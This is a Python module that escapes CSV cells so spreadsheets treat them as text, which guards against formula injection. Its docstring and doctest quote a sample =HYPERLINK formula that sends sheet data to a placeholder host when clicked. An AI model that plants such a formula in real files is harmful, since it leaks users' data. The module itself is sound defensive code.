"""CSV files that a spreadsheet opens as data, never as formulas (CSV/formula injection).

Every CSV the product writes can carry text the user (or whoever made the user's data) chose: file and
folder names, class names, a table's cells and column names. Excel, LibreOffice and Google Sheets run a
cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://x/?leak="&A1, "ok")``
sends the sheet's data away on a click), and a leading tab or carriage return can hide such a prefix.
Following OWASP's advice, :func:`escape_cell` prefixes those strings with a single quote, which a
spreadsheet shows as text.

What is left alone, and why:

* numbers stored as numbers (a ``float`` column of ``-3.5``): they are written as numbers and a
  spreadsheet reads them as numbers, nothing to run;
* strings that are a plain decimal number (``"-3.5"``, ``"+2"``, ``"-1e-05"``): a spreadsheet parses them
  as that number and nothing else, so they cannot be a formula, and quoting them would turn a user's
  numeric-looking column into text in every sheet. ``"-2+3"`` or ``"-A1"`` are not plain numbers and are
  escaped.

The escape is reversible: a string that already starts with ``'`` followed by a risky character gets one
more ``'``, so :func:`unescape_cell` (used when the product reads its own CSVs back) returns exactly what
was written.

Example:
    >>> escape_cell('=HYPERLINK("http://x/?leak="&A1,"good")')
    '\\'=HYPERLINK("http://x/?leak="&A1,"good")'
    >>> [escape_cell(v) for v in ["+1+1", "-2+3", "@SUM(A1)", "-3.5", -3.5, "cat"]]
    ["'+1+1", "'-2+3", "'@SUM(A1)", '-3.5', -3.5, 'cat']
    >>> unescape_cell(escape_cell("'=x")) == "'=x"
    True
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

#: First characters a spreadsheet may treat as the start of a formula (OWASP's list).
RISKY_FIRST = ("=", "+", "-", "@", "\t", "\r")
#: What a cell that escaping (or unescaping) can change starts with.
_CHANGEABLE_FIRST = RISKY_FIRST + ("'",)
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula, or ``text`` is ``'`` + such a string
    (escaped once more so that :func:`unescape_cell` can tell the two apart)."""
    if text.startswith("'"):
        return is_risky(text[1:])
    return text.startswith(RISKY_FIRST) and not _PLAIN_NUMBER.fullmatch(text)


def escape_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet could run; anything else as is."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value


def unescape_cell(value: Any) -> Any:
    """The inverse of :func:`escape_cell` (for the product's own CSVs read back)."""
    if isinstance(value, str) and value.startswith("'") and is_risky(value[1:]):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every risky string cell and column name escaped; numbers untouched."""
    return _map_text(frame, escape_cell)


def unescape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A frame read from a CSV that :func:`to_safe_csv` wrote, with the escapes taken off again."""
    return _map_text(frame, unescape_cell)


def _map_text(frame: pd.DataFrame, cell) -> pd.DataFrame:
    """A copy of ``frame`` with ``cell`` applied to the text columns' cells and to the column names."""
    out = frame.copy()
    for index, column in enumerate(out.columns):
        values = out.iloc[:, index]
        if _holds_text(values):
            # Only a string starting with a risky character or a quote can change, and a run's data report
            # has a row per image (70,000 for Fashion-MNIST): pick those rows vectorised, call ``cell`` on them.
            try:
                candidates = values.str[:1].isin(_CHANGEABLE_FIRST).to_numpy(dtype=bool)
            except AttributeError:  # no string in the column at all (``.str`` refuses it): nothing can change
                continue
            if candidates.any():
                changed = values.copy()
                changed[candidates] = values[candidates].map(cell)
                out.isetitem(index, changed)
    out.columns = [cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _holds_text(column: pd.Series) -> bool:
    """Object columns (mixed values) and pandas' string dtypes; numeric columns are never touched."""
    return column.dtype == object or pd.api.types.is_string_dtype(column.dtype)


def to_safe_csv(frame: pd.DataFrame) -> str:
    """``frame.to_csv(index=False)`` with risky cells escaped: what every CSV writer here uses."""
    return escape_frame(frame).to_csv(index=False)


def read_safe_csv(path) -> pd.DataFrame:
    """Read back a CSV the product wrote with :func:`to_safe_csv`, escapes removed."""
    return unescape_frame(pd.read_csv(path))
